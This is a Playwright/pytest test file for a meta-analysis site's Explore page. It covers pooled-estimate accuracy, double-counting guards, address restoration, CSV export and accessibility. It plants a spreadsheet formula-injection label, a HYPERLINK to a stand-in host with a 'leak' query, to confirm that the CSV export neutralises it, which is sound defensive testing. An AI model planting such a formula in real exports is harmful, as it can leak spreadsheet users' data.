"""The Explore page in Chromium (issue 24): the pool of a chosen set equals synthesis.py's for the same cohorts, the
guards against double counting hold and say why, the address restores a set, the CSV is guarded, and the page works
without JavaScript and passes axe."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
import yaml
from axe_playwright_python.sync_playwright import Axe

from build_scripts.derive.checks import use_topic, validate_tree
from build_scripts.derive.meta_analysis import RandomEffects, pool
from build_scripts.derive.synthesis import analyse
from build_scripts.derive.synthesis_types import MIN_COHORTS, expit_percent
from build_scripts.publish.build import build_site
from build_scripts.render.csv_cells import neutralise
from tools.localsite import served
from tools.synthetic import generate

from browser_waits import still
from conftest import ROOT, WIDTHS, fixture_layout
from test_explore import unpack

READY = "#explore-table[data-ready]"
HOSTILE_LABEL = '=HYPERLINK("http://x.example/?leak","open me")'
# Why the binomial-normal model has no estimate, where the counts alone say so (meta_analysis.binomial_normal): the
# page says it too and pools nothing.
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
BN_FORETOLD = ("no patient responded in any cohort", "every patient responded in every cohort",
               "every cohort lies at 0% or 100%")
NOTHING = "zz-no-row-has-these-words"  # a word no row has: the facets choose nothing, `add` chooses the set

# Sets the address, tells the page (as the browser's back button would), and reads what the page then shows: the
# numbers in full precision from the result's data attributes.
READ_SETS = """(queries) => queries.map(query => {
  history.replaceState(null, "", location.pathname + "?" + query);
  dispatchEvent(new PopStateEvent("popstate"));
  const box = document.getElementById("explore-result");
  const methods = {};
  box.querySelectorAll("[data-method]").forEach(block => { methods[block.dataset.method] = {...block.dataset}; });
  return {...box.dataset, methods: methods};
})"""


def rows_of(site: Path) -> tuple[dict, list[dict]]:
    data = json.loads((site / "data" / "explore.json").read_text(encoding="utf-8"))
    return data, list(unpack(data).values())


def eligible(row: dict, measure: str) -> bool:
    return row["in_question"] and not row["control"] and row["figures"][measure].get("r") is not None


# ---------------------------------------------------------------- the sites


@pytest.fixture(scope="module")
def real(served_real_site, real_site):
    use_topic(ROOT / "evidence")
    data, rows = rows_of(real_site)
    return {"url": served_real_site, "evidence": validate_tree(ROOT / "evidence"), "data": data, "rows": rows,
            "tree": ROOT / "evidence"}


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory):
    """A small synthetic site (tools/synthetic.py), with one study whose cohort label a spreadsheet would run."""
    base = tmp_path_factory.mktemp("explore-site")
    tree = base / "evidence"
    use_topic(ROOT / "evidence")
    generate(tree, 40, ROOT / "evidence", seed=24)

    for study_id, label, responders, n, related in (
            ("hostile-label", HOSTILE_LABEL, 5, 12, None),
            # two reports of overlapping patients, linked by related_studies; the real evidence has no such pair
            # that both give responders and n
            ("linked-first-report", "All patients, first report", 9, 30, None),
            ("linked-later-report", "All patients, later report", 14, 41, "linked-first-report")):
        (tree / "studies" / f"{study_id}.yaml").write_text(yaml.safe_dump(
            one_cohort_study(study_id, label, responders, n, related), allow_unicode=True), encoding="utf-8")
    # a randomised trial whose control arm is in the question too (the real one's control arm is not)
    trial = one_cohort_study("two-arm-trial", "Experimental arm", 20, 40, None)
    trial["design"] = "randomised"
    experimental = trial["cohorts"][0]
    experimental.update(id="experimental", role="arm")
    control = yaml.safe_load(yaml.safe_dump(experimental))
    control.update(id="control", label="Control arm", regimen="daratumumab-lenalidomide-dexamethasone")
    trial["cohorts"].append(control)
    trial["comparisons"] = [{"measure": "orr", "experimental": "experimental", "control": "control",
                             "effect_measure": "not_reported", "as_stated": "similar",
                             "source": {"publication": "synthetic-00001-pub1", "location": "Table 2"}}]
    (tree / "studies" / "two-arm-trial.yaml").write_text(yaml.safe_dump(trial, allow_unicode=True), encoding="utf-8")
    layout = fixture_layout(base, tree, guide=False)
    build_site(layout)
    data, rows = rows_of(layout.site)
    with served(layout.site) as url:
        yield {"url": url, "evidence": validate_tree(tree), "data": data, "rows": rows, "tree": tree}


def one_cohort_study(study_id: str, label: str, responders: int, n: int, related: str | None) -> dict:
    def source():
        return {"publication": "synthetic-00001-pub1", "location": "Table 1"}  # no shared dict: no YAML alias
    record = {
        "id": study_id, "title": f"Study {study_id}", "design": "single_arm", "publications": ["synthetic-00001-pub1"],
        "summary": "A study made for the Explore page's tests.",
        "cohorts": [{
            "id": "overall", "label": label, "role": "overall", "regimen": "daratumumab-pomalidomide-dexamethasone",
            "population": {"n": {"value": n, "source": source()},
                           "refractory": [{"to": "daratumumab", "percent": 100, "source": source()}]},
            "outcomes": [{"measure": "orr", "value": round(100 * responders / n, 1), "unit": "percent",
                          "responders": responders, "n": n, "source": source()}],
        }],
    }
    if related:
        record["related_studies"] = [{"study": related, "relation": "overlapping_patients",
                                      "note": "The later report adds patients to the first."}]
    return record


def open_explore(page, url, query=""):
    page.goto(f"{url}/explore/{'?' + query if query else ''}", wait_until="load")
    page.wait_for_selector(READY, state="attached", timeout=15_000)


# ---------------------------------------------------------------- the pool equals synthesis.py's


def matches(row: dict, view: dict) -> bool:
    """The facet selection as the page makes it, written again here from the data file."""
    for name in ("index_switch", "partner_group", "prior_status", "design", "evidence_type"):
        if view.get(name) and row[name] != view[name]:
            return False
    if "year_min" in view and (row["year"] is None or row["year"] < view["year_min"]):
        return False
    if "n_min" in view and (row["patients"] is None or row["patients"] < view["n_min"]):
        return False
    words = view.get("q", "").lower().split()
    text = f"{row['title']} {row['label']} {row['key']}".lower()
    return all(word in text for word in words)


def random_sets(rng: random.Random, data: dict, rows: list[dict], count: int) -> list[tuple[str, str, set[str]]]:
    """`count` sets as (measure, query, chosen keys): half chosen by hand (`add`), half by facets with a few rows
    unticked (`drop`) and a few ticked (`add`); each with at least three eligible cohorts, so most are pooled."""
    measures = list(data["measures"])
    made: list[tuple[str, str, set[str]]] = []
    tries = 0
    while len(made) < count and tries < 50 * count:
        tries += 1
        measure = rng.choice(measures)
        pool = [row for row in rows if eligible(row, measure)]
        if len(pool) < 3:
            continue
        if len(made) % 2 == 0:
            chosen_rows = rng.sample(pool, rng.randint(3, min(len(pool), 14)))
            extra = rng.sample(rows, rng.randint(0, 3))  # any row: held out or not
            keys = {row["key"] for row in chosen_rows + extra}
            view: dict = {"measure": measure, "q": NOTHING, "add": ",".join(sorted(keys))}
        else:
            view = {"measure": measure}
            facet = rng.choice(["partner_group", "prior_status", "design", "evidence_type", "index_switch", None])
            if facet:
                view[facet] = rng.choice(sorted({row[facet] for row in pool}))
            if rng.random() < 0.3:
                view["n_min"] = rng.choice([10, 20, 50])
            matched = [row for row in rows if row["in_question"] and matches(row, view)]
            drop = {row["key"] for row in rng.sample(matched, min(len(matched), rng.randint(0, 3)))}
            add = {row["key"] for row in rng.sample(pool, rng.randint(0, 2))} - {row["key"] for row in matched}
            keys = {row["key"] for row in matched} - drop | add
            if drop:
                view["drop"] = ",".join(sorted(drop))
            if add:
                view["add"] = ",".join(sorted(add))
        if len([k for k in keys if k in {row["key"] for row in pool}]) < 3:
            continue
        made.append((measure, urlencode(view), keys))
    assert len(made) == count
    return made


def expected(evidence, rows_by_key: dict, measure: str, keys: set[str]):
    """synthesis.analyse of the chosen cohorts that are in the question (the page holds the others out, as the
    build's strata outside the question are never pooled)."""
    members = []
    for study in sorted(evidence.studies.values(), key=lambda s: s.id):
        for cohort in study.cohorts:
            key = f"{study.id}/{cohort.id}"
            if key in keys and rows_by_key[key]["in_question"]:
                members.append((study, cohort))
    return analyse(evidence, None, members, measure)


def compare(site: dict, sets: list[tuple[str, str, set[str]]], page) -> int:
    use_topic(site["tree"])
    shown = page.evaluate(READ_SETS, [query for _, query, _ in sets])
    by_key = {row["key"]: row for row in site["rows"]}
    pooled = 0
    for (measure, query, keys), got in zip(sets, shown):
        analysis = expected(site["evidence"], by_key, measure, keys)
        where = f"?{query}"
        assert sorted(got["keys"].split(",") if got["keys"] else []) == sorted(e.key for e in analysis.used), where
        assert int(got["k"]) == len(analysis.used), where
        estimates = {e.method: e for e in analysis.estimates}
        if (not estimates and len(analysis.used) >= MIN_COHORTS
                and not any(reason in analysis.not_pooled for reason in BN_FORETOLD)):
            # The binomial-normal fit failed where no rule foretells it (it did not converge, or nearly every cohort
            # lies at 0% or 100%): the build pools nothing, the page still shows its sensitivity analyses, which
            # must be the build's.
            estimates = {m: pool(m, [e.responders for e in analysis.used], [e.n for e in analysis.used])
                         for m in ("dl", "pm")}
            estimates = {m: e for m, e in estimates.items() if isinstance(e, RandomEffects)}
        if not estimates:
            assert got["pooled"] == "no" and got["methods"] == {}, where
            continue
        pooled += 1
        assert got["pooled"] == "yes", where
        for method in ("dl", "pm"):
            theirs = numbers(estimates[method])
            mine = got["methods"][method]
            for name in ("value", "ciLow", "ciHigh", "piLow", "piHigh", "i2"):
                assert abs(float(mine[name]) - theirs[name]) <= 0.05, (where, method, name, mine[name], theirs[name])
            assert abs(float(mine["tau2"]) - theirs["tau2"]) <= 0.001, (where, method, mine["tau2"], theirs["tau2"])
            assert int(mine["k"]) == len(analysis.used)
    return pooled


def numbers(estimate) -> dict[str, float]:
    """An Estimate's or a bare fit's (meta_analysis.RandomEffects) figures in per cent, by the page's names."""
    if isinstance(estimate, RandomEffects):
        return {"value": expit_percent(estimate.mean), "ciLow": expit_percent(estimate.ci_low),
                "ciHigh": expit_percent(estimate.ci_high), "piLow": expit_percent(estimate.pi_low),
                "piHigh": expit_percent(estimate.pi_high), "i2": estimate.i2, "tau2": estimate.tau2}
    return {"value": estimate.value, "ciLow": estimate.ci_low, "ciHigh": estimate.ci_high, "piLow": estimate.pi_low,
            "piHigh": estimate.pi_high, "i2": estimate.i2, "tau2": estimate.tau2}


def test_the_pool_of_random_sets_equals_synthesis_py(real, synthetic, watched):
    page = watched.page
    rng = random.Random(24)
    total = pooled = 0
    for site, count in ((real, 120), (synthetic, 100)):
        open_explore(page, site["url"])
        sets = random_sets(rng, site["data"], site["rows"], count)
        pooled += compare(site, sets, page)
        total += len(sets)
    assert total >= 200 and pooled >= 150, (total, pooled)
    watched.assert_clean()


def test_the_binomial_normal_estimate_shows_only_for_a_set_the_build_pooled(real, watched):
    page = watched.page
    known = real["data"]["known"][0]
    open_explore(page, real["url"], urlencode({"measure": known["measure"], "q": NOTHING, "add": ",".join(known["keys"])}))
    bn = page.locator("#explore-result [data-method='bn']")
    assert bn.count() == 1
    assert float(bn.get_attribute("data-value")) == pytest.approx(known["value"])
    assert known["source"] in bn.inner_text()
    # One cohort fewer (or more) is not the build's set: the page says so.
    others = [r["key"] for r in real["rows"] if eligible(r, known["measure"]) and r["key"] not in known["keys"]]
    if others:
        page.evaluate(READ_SETS, [urlencode({"measure": known["measure"], "q": NOTHING,
                                             "add": ",".join(known["keys"] + others[:1])})])
        assert page.locator("#explore-result [data-method='bn']").count() == 0
        assert "computed at build time only" in page.inner_text("#explore-result")
    watched.assert_clean()


# ---------------------------------------------------------------- the guards


def held(page) -> dict[str, dict]:
    return {item["key"]: item for item in page.eval_on_selector_all(
        "#explore-held li", "items => items.map(li => ({key: li.dataset.key, kind: li.dataset.kind, text: li.textContent}))")}


def pick(rows, test):
    found = next((row for row in rows if test(row)), None)
    assert found is not None, "the evidence has no such cohort: the test would prove nothing"
    return found


def overlapping_pair(rows, measure, same_study):
    by_key = {row["key"]: row for row in rows}
    for row in rows:
        for other in row["overlaps"]:
            mate = by_key[other]
            if (mate["study"] == row["study"]) == same_study and eligible(row, measure) and eligible(mate, measure):
                return row, mate
    pytest.fail("no such pair of cohorts in the evidence")


def choose_only(page, url, measure, keys):
    page.evaluate(READ_SETS, [urlencode({"measure": measure, "q": NOTHING, "add": ",".join(keys)})])


def test_each_guard_holds_the_cohort_out_and_says_why(real, synthetic, watched):
    page = watched.page
    measure = "orr"
    # A parent with its subgroup (real evidence), and two linked reports (the synthetic site): the larger is used, the
    # other held out with the alternative.
    for site, same_study, words in ((real, True, "of the same study"), (synthetic, False, "linked report")):
        open_explore(page, site["url"])
        first, second = overlapping_pair(site["rows"], measure, same_study)
        choose_only(page, site["url"], measure, [first["key"], second["key"]])
        used = page.get_attribute("#explore-result", "data-keys").split(",")
        assert len(used) == 1 and used[0] in (first["key"], second["key"])
        out = second["key"] if used[0] == first["key"] else first["key"]
        item = held(page)[out]
        assert item["kind"] == "overlap" and f"may share patients with {used[0]}, which is used" in item["text"]
        assert "Alternative: use" in item["text"] and words in item["text"]
        # The alternative, taken: the held-out cohort is used and the other is unticked (in the address too).
        page.click(f"#explore-held li[data-key='{out}'] button.atlas-explore-swap")
        assert page.get_attribute("#explore-result", "data-keys") == out
        assert parse_qs(urlsplit(page.url).query)["add"] == [out]
    # A control arm (in the question: the synthetic site's), a naive cohort, a cohort that gives a rate without its
    # number of patients (the real evidence's).
    control = pick(synthetic["rows"], lambda r: r["control"] and r["in_question"])
    choose_only(page, synthetic["url"], measure, [control["key"]])
    item = held(page)[control["key"]]
    assert item["kind"] == "control" and "the control arm of a comparison" in item["text"]
    rows = real["rows"]
    open_explore(page, real["url"])
    naive = pick(rows, lambda r: r["prior_status"] == "naive" and not r["in_question"])
    no_n = pick(rows, lambda r: r["in_question"] and not r["control"]
                and "without its number of patients" in r["figures"][measure].get("why", ""))
    choose_only(page, real["url"], measure, [naive["key"], no_n["key"]])
    found = held(page)
    assert page.get_attribute("#explore-result", "data-k") == "0"
    assert found[naive["key"]]["kind"] == "outside" and "not in the question: " + naive["why_not"] in found[naive["key"]]["text"]
    assert found[no_n["key"]]["kind"] == "figure" and no_n["figures"][measure]["why"] in found[no_n["key"]]["text"]
    # The cohorts not in the question are listed apart, and never ticked by the facets.
    page.evaluate(READ_SETS, ["measure=orr"])
    assert page.locator(f"#explore-outside input[data-key='{naive['key']}']").is_checked() is False
    assert naive["key"] not in page.get_attribute("#explore-result", "data-keys").split(",")
    watched.assert_clean()


def test_fewer_than_three_cohorts_give_a_range_not_a_pool(real, watched):
    page = watched.page
    pair = [row for row in real["rows"] if eligible(row, "orr") and not row["overlaps"]][:2]
    open_explore(page, real["url"], urlencode({"measure": "orr", "q": NOTHING, "add": ",".join(r["key"] for r in pair)}))
    box = page.locator("#explore-result")
    assert box.get_attribute("data-pooled") == "no" and box.locator("[data-method]").count() == 0
    values = sorted(100 * r["figures"]["orr"]["r"] / r["figures"]["orr"]["n"] for r in pair)
    assert float(box.get_attribute("data-range-low")) == pytest.approx(values[0])
    assert float(box.get_attribute("data-range-high")) == pytest.approx(values[-1])
    assert "No pooled estimate: fewer than 3" in box.inner_text()
    watched.assert_clean()


# ---------------------------------------------------------------- the view in the address, the keyboard


def test_the_address_restores_a_set_exactly_and_the_checkboxes_work_by_keyboard(real, browser, watched):
    page = watched.page
    open_explore(page, real["url"])
    page.select_option("#explore-form [name='measure']", "orr")
    page.select_option("#explore-form [name='prior_status']", "refractory")
    page.fill("#explore-form [name='year_min']", "2019")
    years = page.eval_on_selector_all("#explore-table tbody tr td:nth-child(3)", "cells => cells.map(c => +c.textContent)")
    assert years and min(years) >= 2019
    assert len(years) < len([r for r in real["rows"] if r["in_question"] and r["prior_status"] == "refractory"])
    # Untick the first ticked row with the keyboard; tick a row of the cohorts not in the question.
    first = page.locator("#explore-table tbody input[type=checkbox]").first
    key = first.get_attribute("data-key")
    first.focus()
    page.keyboard.press("Space")
    assert not first.is_checked()
    assert first.evaluate("box => box.getAttribute('aria-label')").startswith("Choose ")
    outside = page.locator("#explore-outside tbody input[type=checkbox]").first
    outside_key = outside.get_attribute("data-key")
    outside.check()
    query = parse_qs(urlsplit(page.url).query)
    assert query["drop"] == [key] and query["add"] == [outside_key] and query["prior_status"] == ["refractory"]
    assert query["year_min"] == ["2019"]
    state = page.evaluate("""() => ({keys: document.getElementById('explore-result').dataset.keys,
      held: [...document.querySelectorAll('#explore-held li')].map(li => li.dataset.key),
      ticked: [...document.querySelectorAll('input[type=checkbox]:checked')].map(b => b.dataset.key)})""")
    other = browser.new_context().new_page()
    open_explore(other, real["url"], urlsplit(page.url).query)
    again = other.evaluate("""() => ({keys: document.getElementById('explore-result').dataset.keys,
      held: [...document.querySelectorAll('#explore-held li')].map(li => li.dataset.key),
      ticked: [...document.querySelectorAll('input[type=checkbox]:checked')].map(b => b.dataset.key)})""")
    assert again == state and key not in state["ticked"] and outside_key in state["ticked"]
    assert other.input_value("#explore-form [name='prior_status']") == "refractory"
    citation = other.inner_text("#explore-citation")
    assert other.url in citation and real["data"]["release"] in citation and real["data"]["built"] in citation
    other.context.close()
    watched.assert_clean()


# ---------------------------------------------------------------- the CSV


def test_the_csv_holds_the_chosen_cohorts_and_the_pool_and_is_guarded(synthetic, watched):
    page = watched.page
    hostile = "hostile-label/overall"
    others = [row["key"] for row in synthetic["rows"] if eligible(row, "orr") and not row["overlaps"]][:3]
    open_explore(page, synthetic["url"], urlencode({"measure": "orr", "q": NOTHING, "add": ",".join([hostile] + others)}))
    with page.expect_download() as download:
        page.click("#explore-csv")
    text = Path(download.value.path()).read_text(encoding="utf-8")
    table = list(csv.reader(io.StringIO(text)))
    header, rows = table[0], table[1:]
    cohorts = {row[header.index("study_id")] + "/" + row[header.index("cohort_id")]: row
               for row in rows if row[0] == "cohort"}
    assert set(cohorts) == {hostile, *others}
    label = cohorts[hostile][header.index("cohort_label")]
    assert label == neutralise(HOSTILE_LABEL) and label.startswith("'=")
    by_key = {row["key"]: row for row in synthetic["rows"]}
    for key, row in cohorts.items():
        assert row[header.index("study_title")] == neutralise(by_key[key]["title"])
        assert row[header.index("cohort_label")] == neutralise(by_key[key]["label"])
    unguarded = [cell for row in rows for cell in row if cell[:1] and cell[:1] in "=+-@" and not NUMBER.fullmatch(cell)]
    assert unguarded == []
    pooled = {row[0]: row for row in rows if row[0].startswith("pooled")}
    assert set(pooled) == {"pooled dl", "pooled pm"}
    shown = page.get_attribute("#explore-result [data-method='dl']", "data-value")
    assert float(pooled["pooled dl"][header.index("value_percent")]) == pytest.approx(float(shown))
    # the page shows the label as text, not as a link or markup
    assert page.locator("#explore-table a", has_text=HOSTILE_LABEL).count() == 1
    watched.assert_clean()


# ---------------------------------------------------------------- without JavaScript; axe


def test_without_javascript_the_page_shows_the_questions_and_their_answers(real, browser):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{real['url']}/explore/", wait_until="load")
    questions = yaml.safe_load((ROOT / "content" / "questions.yaml").read_text(encoding="utf-8"))["questions"]
    cards = page.locator("#explore-static .atlas-answer-card")
    assert cards.count() == len(questions) > 0
    for index, question in enumerate(questions):
        card = cards.nth(index)
        assert card.locator("h3").inner_text().strip() == question["question"].strip()
        assert card.locator(".atlas-answer-headline").inner_text().strip()
    assert page.locator("#explore-static").is_visible() and not page.locator("#explore-live").is_visible()
    context.close()


@pytest.mark.parametrize("width", WIDTHS)
def test_axe_finds_nothing_and_the_page_stays_local(real, browser, width):
    from conftest import PageWatch

    watch = PageWatch(browser)
    w, h = WIDTHS[width]
    watch.page.set_viewport_size({"width": w, "height": h})
    open_explore(watch.page, real["url"], "measure=orr&prior_status=refractory")
    assert watch.page.locator("#explore-static").is_hidden() and watch.page.locator("#explore-forest svg").count() == 1
    watch.page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
    still(watch.page)
    violations = Axe().run(watch.page, options={"resultTypes": ["violations"]}).response["violations"]
    assert violations == [], [(v["id"], [n["target"] for n in v["nodes"][:5]]) for v in violations]
    # nothing the script draws makes the page scroll sideways: the plot and the tables scroll in their own boxes
    assert watch.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    watch.assert_clean()
    watch.close()
